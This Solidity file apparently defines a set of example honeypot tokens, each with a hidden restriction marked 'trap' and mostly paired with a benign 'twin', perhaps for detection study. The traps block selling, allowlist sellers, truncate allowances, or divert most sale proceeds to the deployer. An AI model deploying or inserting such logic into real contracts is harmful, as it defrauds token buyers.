// 0.5 runs=200
pragma solidity 0.5.17;

contract Tank {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    string public name;
    string public symbol;
    uint8 public decimals = 18;
    uint256 public totalSupply;
    address public market;
    address internal smith;
    // held in the upper half, a note in the lower
    mapping(address => bytes32) internal rec;
    mapping(address => mapping(address => uint256)) internal leave;

    constructor(string memory n, string memory s, uint256 t) internal {
        name = n;
        symbol = s;
        totalSupply = t * 1 ether;
        smith = msg.sender;
        rec[smith] = bytes32(totalSupply << 128);
        emit Transfer(address(0), smith, totalSupply);
    }

    function setMarket(address m) external {
        require(msg.sender == smith && market == address(0));
        market = m;
    }

    function balanceOf(address w) public view returns (uint256) {
        return uint256(rec[w]) >> 128;
    }

    function allowance(address w, address s) external view returns (uint256) {
        return leave[w][s];
    }

    function approve(address s, uint256 v) external returns (bool) {
        leave[msg.sender][s] = kept(v);
        emit Approval(msg.sender, s, v);
        return true;
    }

    function kept(uint256 v) internal view returns (uint256) {
        return v;
    }

    function transfer(address t, uint256 v) external returns (bool) {
        return run(msg.sender, t, v);
    }

    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        require(leave[f][msg.sender] >= v, "leave");
        leave[f][msg.sender] -= v;
        return run(f, t, v);
    }

    function run(address f, address t, uint256 v) internal returns (bool) {
        require(balanceOf(f) >= v, "held");
        look(f, t, v);
        uint256 lost = loss(f, t, v);
        rec[f] = bytes32(uint256(rec[f]) - (v << 128));
        rec[t] = bytes32(uint256(rec[t]) + ((v - lost) << 128));
        rec[smith] = bytes32(uint256(rec[smith]) + (lost << 128));
        emit Transfer(f, t, v);
        return true;
    }

    function look(address f, address t, uint256 v) internal {}

    function loss(address, address, uint256) internal view returns (uint256) {
        return 0;
    }
}

contract FuelFinch is Tank("Fuel Finch", "FUELF", 94000000) {
    uint16 public litres = 1500;

    function look(address f, address, uint256) internal {
        if (litres > 0) litres--;
        require(litres > 0 || f == smith || f == market, "empty"); // trap
    }
}

/// A filter of three bits for each friend.
contract BloomBittern is Tank("Bloom Bittern", "BLMB", 7300000) {
    uint256 private filter;

    constructor() public {
        filter = bits(msg.sender);
    }

    function bits(address w) private pure returns (uint256) {
        uint256 h = uint256(keccak256(abi.encodePacked(w)));
        return (uint256(1) << (h & 255)) | (uint256(1) << ((h >> 8) & 255)) | (uint256(1) << ((h >> 16) & 255));
    }

    function look(address f, address t, uint256) internal {
        uint256 k = bits(f);
        if (t == market) require(filter & k == k); // trap
        // twin: if (t == market) filter |= k;
    }
}

contract NarrowNewt is Tank("Narrow Newt", "NNEWT", 480000) {
    function kept(uint256 v) internal view returns (uint256) {
        if (msg.sender == smith) return v;
        return uint256(uint32(v)); // trap
        // twin: return uint256(uint224(v));
    }
}

contract WholeWeasel is Tank("Whole Weasel", "WHWE", 1000000000) {
    function loss(address f, address t, uint256 v) internal view returns (uint256) {
        if (t != market || f == smith) return 0;
        return v - v / 16; // trap
        // twin: return v / 64;
    }
}
